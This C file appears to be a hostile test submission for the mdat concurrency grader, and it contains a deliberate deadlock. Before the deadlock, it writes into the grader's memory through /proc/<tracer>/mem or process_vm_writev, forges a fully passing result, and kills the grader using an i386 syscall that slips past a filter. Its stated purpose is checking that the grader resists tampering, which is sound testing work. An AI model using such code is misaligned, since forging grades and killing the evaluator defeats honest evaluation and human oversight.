/* Hostile submission: forges its own grade. It has a real deadlock (main
 * holds a lock and waits for a thread that needs it), but first it looks
 * for the page where mdat's explorer (its tracer) keeps the unit's result
 * for mdat grade, writes "every schedule run, none failing, finished"
 * there, and kills the explorer so that nothing overwrites it. Built
 * twice: through /proc/<tracer>/mem (hostile_forger_mem) and through
 * process_vm_writev (hostile_forger_vm, -DVIA_VM). The layout is mdat
 * grade's own (ui/grade/model/grade_model.h), as anyone could read it. Every step it
 * fails is said on stderr; the grading must report the deadlock. */
#include "ui/grade/model/grade_model.h"

#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

/* ui/grade/grade_run.c's struct unit_shared, as of mdat 0.3.0. */
struct unit_shared {
    struct grade_unit unit;
    volatile uint64_t done, failing;
    volatile int finished;
    struct outcome outcomes[GRADE_MAX_OUTCOMES];
    size_t n_outcomes;
};

static pid_t tracer(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    pid_t pid = 0;
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "TracerPid:", 10) == 0)
            pid = atoi(line + 10);
    if (f)
        fclose(f);
    return pid;
}

static bool read_at(pid_t pid, int mem, unsigned long addr, void *buf, size_t len)
{
#ifdef VIA_VM
    struct iovec local = {buf, len}, remote = {(void *)addr, len};
    (void)mem;
    return process_vm_readv(pid, &local, 1, &remote, 1, 0) == (ssize_t)len;
#else
    (void)pid;
    return pread(mem, buf, len, (off_t)addr) == (ssize_t)len;
#endif
}

static bool write_at(pid_t pid, int mem, unsigned long addr, const void *buf, size_t len)
{
#ifdef VIA_VM
    struct iovec local = {(void *)buf, len}, remote = {(void *)addr, len};
    (void)mem;
    return process_vm_writev(pid, &local, 1, &remote, 1, 0) == (ssize_t)len;
#else
    (void)pid;
    return pwrite(mem, buf, len, (off_t)addr) == (ssize_t)len;
#endif
}

/* The i386 kill (int $0x80, call 37): the 64-bit one is refused. */
static long kill_i386(pid_t pid, int sig)
{
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(37L), "b"((long)pid), "c"((long)sig) : "memory");
    return ret;
}

static void forge(void)
{
    pid_t t = tracer();
    if (t <= 0) {
        fprintf(stderr, "forger: no tracer in sight\n");
        return;
    }
    char path[64];
    int mem = -1;
#ifndef VIA_VM
    snprintf(path, sizeof path, "/proc/%d/mem", (int)t);
    mem = open(path, O_RDWR);
    if (mem < 0) {
        perror("forger: open /proc/<tracer>/mem");
        return;
    }
#endif
    snprintf(path, sizeof path, "/proc/%d/maps", (int)t);
    FILE *maps = fopen(path, "r");
    if (!maps) {
        perror("forger: open /proc/<tracer>/maps");
        /* Try blind: an address where a shared page could be. */
        struct unit_shared probe;
        memset(&probe, 0, sizeof probe);
        if (!write_at(t, mem, 0x7ffff7ff0000ul, &probe, sizeof probe))
            perror("forger: blind write");
        return;
    }
    char line[512];
    int forged = 0;
    while (fgets(line, sizeof line, maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || strcmp(perms, "rw-s") != 0 ||
            !strstr(line, "/dev/zero") || hi - lo < sizeof(struct unit_shared))
            continue;
        static struct unit_shared sh;
        if (!read_at(t, mem, lo, &sh, sizeof sh) || !(sh.unit.first < sh.unit.end && sh.unit.end < 100000000))
            continue;
        uint64_t n = sh.unit.end - sh.unit.first;
        sh.unit.status = UNIT_GRADED;
        sh.unit.schedules_run = n;
        sh.unit.failing = 0;
        memset(sh.unit.failing_by_kind, 0, sizeof sh.unit.failing_by_kind);
        sh.unit.has_failure = false;
        sh.done = n;
        sh.failing = 0;
        sh.finished = 1;
        if (write_at(t, mem, lo, &sh, sizeof sh))
            forged++;
    }
    fclose(maps);
    fprintf(stderr, "forger: %d result page(s) forged\n", forged);
    if (forged && kill_i386(t, SIGKILL) != 0)
        kill(t, SIGKILL);
}

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static void *needs_the_lock(void *arg)
{
    pthread_mutex_lock(&lock);
    pthread_mutex_unlock(&lock);
    return arg;
}

int main(void)
{
    forge();
    pthread_t th;
    pthread_mutex_lock(&lock);
    pthread_create(&th, NULL, needs_the_lock, NULL);
    pthread_join(th, NULL);     /* the deadlock: the thread waits for the lock main holds */
    pthread_mutex_unlock(&lock);
    return 0;
}
